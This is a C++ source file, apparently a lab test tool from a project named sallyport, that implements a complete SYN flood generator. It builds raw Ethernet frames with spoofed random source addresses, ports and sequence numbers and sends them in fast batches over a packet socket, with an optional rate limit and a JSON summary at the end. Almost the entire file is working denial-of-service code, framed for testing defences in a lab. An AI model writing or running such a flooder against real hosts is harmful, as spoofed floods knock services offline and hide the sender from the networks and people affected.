// A SYN flood for the lab: frames with sources, ports and sequence numbers drawn at random, as fast as one core sends them or at a rate.
//
//     lab_flood --interface eth0 --mac 02:00:00:00:00:01 --to 192.0.2.1:443 --from 198.18.0.0/15
//
// Says `ready` when it begins and, when it is told to end, what it has sent as JSON.

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstring>
#include <iostream>
#include <random>
#include <stdexcept>
#include <string>
#include <thread>

#include "tests/lab/end_signal.h"

namespace sallyport::lab {
namespace {

using Clock = std::chrono::steady_clock;

/// What a Linux client's SYN has: MSS 1460, SACK, timestamps, scaling by 7 (RFC 9293 3.2, 7323, 2018).
constexpr std::array<std::uint8_t, 20> kOptions{2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
constexpr std::size_t kIp = ETH_HLEN, kTcp = kIp + 20, kLength = kTcp + 20 + kOptions.size();
using Frame = std::array<std::uint8_t, kLength>;

void store16(std::uint8_t* at, std::uint32_t value) {
    at[0] = static_cast<std::uint8_t>(value >> 8);
    at[1] = static_cast<std::uint8_t>(value);
}
void store32(std::uint8_t* at, std::uint32_t value) {
    store16(at, value >> 16);
    store16(at + 2, value);
}
std::uint32_t sum(const std::uint8_t* at, std::size_t length) {
    std::uint32_t result = 0;
    for (std::size_t i = 0; i < length; i += 2) result += static_cast<std::uint32_t>(at[i]) << 8 | at[i + 1];
    return result;
}
std::uint32_t checksum(std::uint32_t total) {
    while (total >> 16 != 0) total = (total & 0xffff) + (total >> 16);
    return ~total & 0xffff;
}

/// All that is the same in each.
Frame prepared(const std::array<std::uint8_t, 6>& from, const std::array<std::uint8_t, 6>& to, in_addr address, std::uint16_t port) {
    Frame frame{};
    std::ranges::copy(to, frame.begin());
    std::ranges::copy(from, frame.begin() + 6);
    store16(&frame[12], ETH_P_IP);
    frame[kIp] = 0x45;
    store16(&frame[kIp + 2], kLength - kIp);
    frame[kIp + 6] = 0x40;   // don't fragment
    frame[kIp + 8] = 64;
    frame[kIp + 9] = 6;
    std::memcpy(&frame[kIp + 16], &address, 4);
    store16(&frame[kTcp + 2], port);
    frame[kTcp + 12] = (20 + kOptions.size()) / 4 << 4;
    frame[kTcp + 13] = 0x02;
    store16(&frame[kTcp + 14], 64240);
    std::ranges::copy(kOptions, frame.begin() + kTcp + 20);
    return frame;
}

void draw(Frame& frame, std::mt19937_64& random, std::uint32_t network, std::uint32_t hosts) {
    const std::uint64_t drawn = random();
    const std::uint64_t more = random();
    store32(&frame[kIp + 12], network | (static_cast<std::uint32_t>(drawn) & hosts));
    store16(&frame[kTcp], 1024 + static_cast<std::uint32_t>(drawn >> 32) % 64512);
    store32(&frame[kTcp + 4], static_cast<std::uint32_t>(more));
    store16(&frame[kIp + 10], 0);
    store16(&frame[kIp + 10], checksum(sum(&frame[kIp], 20)));
    store16(&frame[kTcp + 16], 0);
    store16(&frame[kTcp + 16], checksum(sum(&frame[kIp + 12], 8) + 6 + (kLength - kTcp) + sum(&frame[kTcp], kLength - kTcp)));
}

template <typename Number>
Number number(const std::string& text, unsigned long most, const char* what) {
    std::size_t used = 0;
    const unsigned long value = std::stoul(text, &used);
    if (used != text.size() || value > most) throw std::invalid_argument(text + " is no " + what);
    return static_cast<Number>(value);
}

in_addr address_of(const std::string& text) {
    in_addr address{};
    if (inet_pton(AF_INET, text.c_str(), &address) != 1) throw std::invalid_argument(text + " is no IPv4 address");
    return address;
}

std::array<std::uint8_t, 6> mac_of(const std::string& text) {
    std::array<std::uint8_t, 6> mac{};
    int used = 0;
    if (std::sscanf(text.c_str(), "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx%n", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5], &used) != 6 ||
        static_cast<std::size_t>(used) != text.size())
        throw std::invalid_argument(text + " is no MAC address");
    return mac;
}

int run(const std::string& interface, const std::string& mac, const std::string& to, const std::string& from, double rate, std::uint64_t seed) {
    const std::size_t colon = to.rfind(':'), slash = from.rfind('/');
    if (colon == std::string::npos) throw std::invalid_argument(to + " has no port");
    if (slash == std::string::npos) throw std::invalid_argument(from + " is no prefix");
    const auto port = number<std::uint16_t>(to.substr(colon + 1), 65535, "port");
    const auto bits = number<unsigned>(from.substr(slash + 1), 32, "length of a prefix");
    const std::uint32_t hosts = bits == 0 ? 0xffffffff : bits == 32 ? 0 : (std::uint32_t{1} << (32 - bits)) - 1;
    const std::uint32_t network = ntohl(address_of(from.substr(0, slash)).s_addr) & ~hosts;

    const int descriptor = socket(AF_PACKET, SOCK_RAW, 0);   // receives nothing
    if (descriptor < 0) throw std::runtime_error(std::string("no packet socket: ") + std::strerror(errno));
    const int on = 1;
    setsockopt(descriptor, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
    sockaddr_ll at{};
    at.sll_family = AF_PACKET;
    at.sll_ifindex = static_cast<int>(if_nametoindex(interface.c_str()));
    if (at.sll_ifindex == 0 || bind(descriptor, reinterpret_cast<const sockaddr*>(&at), sizeof at) != 0)
        throw std::runtime_error("there is no interface " + interface);

    const int ended = end_signal();

    constexpr unsigned kBatch = 64;
    std::array<Frame, kBatch> frames;
    frames.fill(prepared({2, 0, 0, 0, 0, 0xfe}, mac_of(mac), address_of(to.substr(0, colon)), port));
    std::array<iovec, kBatch> vectors;
    std::array<mmsghdr, kBatch> messages{};
    for (unsigned i = 0; i < kBatch; ++i) {
        vectors[i] = {frames[i].data(), frames[i].size()};
        messages[i].msg_hdr.msg_iov = &vectors[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    std::mt19937_64 random(seed);
    std::uint64_t sent = 0, refused = 0;
    const auto begun = Clock::now();
    std::cout << "ready" << std::endl;
    for (;;) {
        pollfd waiting{.fd = ended, .events = POLLIN, .revents = 0};
        if (poll(&waiting, 1, 0) > 0) break;
        if (rate > 0) std::this_thread::sleep_until(begun + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(static_cast<double>(sent) / rate)));
        for (Frame& frame : frames) draw(frame, random, network, hosts);
        const int done = sendmmsg(descriptor, messages.data(), kBatch, 0);
        if (done > 0) sent += static_cast<unsigned>(done);
        if (done < static_cast<int>(kBatch)) ++refused;
    }
    const double seconds = std::chrono::duration<double>(Clock::now() - begun).count();
    std::cout << "{\"sent\": " << sent << ", \"refused\": " << refused << ", \"seconds\": " << seconds << "}" << std::endl;
    close(ended);
    close(descriptor);
    return 0;
}

}  // namespace
}  // namespace sallyport::lab

int main(int argc, char** argv) {
    CLI::App app{"A SYN flood for the lab."};
    std::string interface, mac, to, from = "198.18.0.0/15";
    double rate = 0;
    std::uint64_t seed = 1;
    app.add_option("--interface", interface, "that the frames leave by")->required();
    app.add_option("--mac", mac, "of the next hop")->required();
    app.add_option("--to", to, "ADDRESS:PORT")->required();
    app.add_option("--from", from, "prefix of the sources");
    app.add_option("--rate", rate, "SYNs a second; 0: as many as go")->check(CLI::NonNegativeNumber);
    app.add_option("--seed", seed);
    CLI11_PARSE(app, argc, argv);
    prctl(PR_SET_PDEATHSIG, SIGTERM);
    try {
        return sallyport::lab::run(interface, mac, to, from, rate, seed);
    } catch (const std::exception& error) {
        std::cerr << "lab_flood: " << error.what() << '\n';
        return 2;
    }
}
